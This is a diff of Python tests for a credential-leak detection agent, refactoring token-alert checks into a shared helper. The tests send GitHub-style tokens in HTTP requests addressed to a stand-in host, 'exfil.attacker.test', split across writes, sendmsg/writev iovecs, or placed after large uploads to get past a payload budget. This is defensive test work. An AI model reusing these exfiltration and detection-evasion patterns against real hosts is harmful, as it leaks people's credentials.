@@ -98,13 +98,16 @@ def test_unexpected_destination_alert_and_allowed_destination_observation():
     agent.assert_no_plaintext(token)
 
 
-def test_token_split_across_two_writes_is_found():
+def one_token_alert(send, *agent_args):
+    """An agent watching loopback (and agent_args) and a sink; send(port, token) sends a
+    fresh token to the sink. Asserts exactly that token is alerted on, and never in
+    plaintext; returns the stopped agent."""
     require_root()
     sink = Sink()
-    agent = Agent("--include-loopback")
+    agent = Agent("--include-loopback", *agent_args)
     token = github_token()
     try:
-        send_request(sink.port, "exfil.attacker.test", token, pieces=2)
+        send(sink.port, token)
         hits = agent.wait_for(lambda l: l.get("destination", {}).get("port") == sink.port)
     finally:
         agent.stop()
@@ -112,29 +115,26 @@ def test_token_split_across_two_writes_is_found():
     assert len(hits) == 1, agent.lines
     assert hits[0]["credential"]["fingerprint"] == agent.key.fingerprint(token)
     agent.assert_no_plaintext(token)
+    return agent
+
+
+def test_token_split_across_two_writes_is_found():
+    one_token_alert(lambda port, token: send_request(port, "exfil.attacker.test", token,
+                                                     pieces=2))
 
 
 def test_token_split_across_the_iovecs_of_sendmsg_and_writev():
     """writev and sendmsg: each iovec is copied in order, a token split between two iovecs
     of one call, or across two calls, is found."""
-    require_root()
-    sink = Sink()
-    agent = Agent("--include-loopback")
-    token = github_token()
-    try:
-        s = socket.create_connection(("127.0.0.1", sink.port))
+    def send(port, token):
+        s = socket.create_connection(("127.0.0.1", port))
         head = "GET /v1 HTTP/1.1\r\nHost: exfil.attacker.test\r\nAuthorization: token "
         s.sendmsg([head.encode(), token[:10].encode(), token[10:25].encode()])
         os.writev(s.fileno(), [token[25:].encode(), b"\r\n", b"\r\n"])
         s.recv(4096)
         s.close()
-        hits = agent.wait_for(lambda l: l.get("destination", {}).get("port") == sink.port)
-    finally:
-        agent.stop()
-        sink.close()
-    assert len(hits) == 1, agent.lines
-    assert hits[0]["credential"]["fingerprint"] == agent.key.fingerprint(token)
-    agent.assert_no_plaintext(token)
+    one_token_alert(send)
+
 
 def test_ipv6_loopback_connection():
     require_root()
@@ -185,12 +185,8 @@ def _after_upload(size, send_next):
     """An HTTP/1.1 upload of `size` bytes in 16 KiB writes, past a 64 KiB payload budget, then
     send_next(sock, token) on the same connection. Asserts the one alert is that token's;
     returns the bytes the agent was sent."""
-    require_root()
-    sink = Sink()
-    agent = Agent("--include-loopback", "--payload-budget", "64K")
-    token = github_token()
-    try:
-        s = socket.create_connection(("127.0.0.1", sink.port))
+    def send(port, token):
+        s = socket.create_connection(("127.0.0.1", port))
         body = b"x" * size
         s.sendall(b"POST /upload HTTP/1.1\r\nHost: exfil.attacker.test\r\nContent-Length: %d"
                   b"\r\n\r\n" % len(body))
@@ -200,12 +196,7 @@ def _after_upload(size, send_next):
         send_next(s, token)
         s.recv(4096)
         s.close()
-        hits = agent.wait_for(lambda l: l.get("destination", {}).get("port") == sink.port)
-    finally:
-        agent.stop()
-        sink.close()
-    assert len(hits) == 1, agent.stderr()
-    assert hits[0]["credential"]["fingerprint"] == agent.key.fingerprint(token)
+    agent = one_token_alert(send, "--payload-budget", "64K")
     return int(agent.stderr().split(" bytes sent")[0].split()[-1])
 
 
